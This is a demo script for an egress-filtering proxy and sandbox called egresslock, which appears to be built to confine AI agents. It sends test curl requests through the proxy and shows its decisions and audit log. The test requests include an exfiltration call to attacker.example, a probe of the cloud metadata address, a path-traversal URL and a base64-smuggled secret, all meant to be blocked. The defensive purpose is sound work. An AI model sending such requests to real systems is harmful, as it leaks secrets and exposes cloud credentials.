#!/usr/bin/env bash
# The main job on an example: run the egresslock proxy with examples/local-demo.yaml in front of
# a server on loopback, send it what an agent (or an injected agent) might send with curl; then
# run a command in the sandbox (egresslock run), whose only way out is that policy; then show the
# audit log of every decision and verify its hash chain.
set -uo pipefail
cd "$(dirname "$0")/.."
EL=.venv/bin/egresslock
POLICY=examples/local-demo.yaml
WORK=$(mktemp -d)
trap 'kill $SERVER $PROXY 2>/dev/null; wait 2>/dev/null; rm -rf "$WORK"' EXIT

$EL policy validate "$POLICY" || exit 1
mkdir -p "$WORK/www/docs" && echo "hello from the docs" > "$WORK/www/docs/index.html"
.venv/bin/python -m http.server 8765 --bind 127.0.0.1 --directory "$WORK/www" >/dev/null 2>&1 &
SERVER=$!
$EL proxy -p "$POLICY" --listen 127.0.0.1:0 --audit "$WORK/audit.db" \
  --resolve docs.demo.test:127.0.0.1 >"$WORK/proxy.out" 2>"$WORK/proxy.err" &
PROXY=$!
for _ in $(seq 50); do grep -q "listening on" "$WORK/proxy.out" 2>/dev/null && break; sleep 0.1; done
ADDR=$(sed -n 's/^listening on //p' "$WORK/proxy.out")
[ -n "$ADDR" ] || { cat "$WORK/proxy.err"; exit 1; }
echo "proxy listening on $ADDR"; echo

ask() {
  echo "\$ curl -x http://$ADDR $*"
  curl -sS -x "http://$ADDR" -o /dev/null -D - "$@" | grep -iE "^HTTP/|^X-Egresslock" ; echo
}
ask http://docs.demo.test:8765/docs/index.html                         # allowed
ask -X POST -d "notes=private" http://docs.demo.test:8765/docs/index.html  # method denied
ask "http://docs.demo.test:8765/docs/index.html?q=c2VjcmV0LWRhdGE="    # query parameter denied
ask http://attacker.example/exfil?d=secret                             # host denied, never resolved
ask http://169.254.169.254/latest/meta-data/                           # metadata address denied
ask "http://docs.demo.test:8765/docs/%2e%2e/admin"                     # traversal refused
# An allowed write carrying the policy's secret, base64-encoded: refused, and the log names it.
ask -X POST --data-binary "note=$(printf demo-canary-0b9f3e7d2c | base64)" \
  http://docs.demo.test:8765/notes/new

kill -TERM $PROXY; wait $PROXY 2>/dev/null

# The same policy around a whole command: the proxy variables point at egresslock, DNS answers
# only allowed names, and nothing else has a route out of the command's network namespace.
echo "\$ egresslock run -p $POLICY -- sh -c '...'"
$EL run -p "$POLICY" --audit "$WORK/audit.db" --resolve docs.demo.test:127.0.0.1 -- sh -c '
  curl -sS -o /dev/null -w "GET docs.demo.test: %{http_code}\n" http://docs.demo.test:8765/docs/index.html
  curl -sS -o /dev/null -w "GET attacker.example: %{http_code}\n" "http://attacker.example/exfil?d=secret"
  getent hosts attacker.example || echo "DNS attacker.example: refused"'
echo
echo "\$ egresslock audit --db audit.db"
$EL audit --db "$WORK/audit.db"
echo; echo "\$ egresslock audit verify --db audit.db"
$EL audit verify --db "$WORK/audit.db"
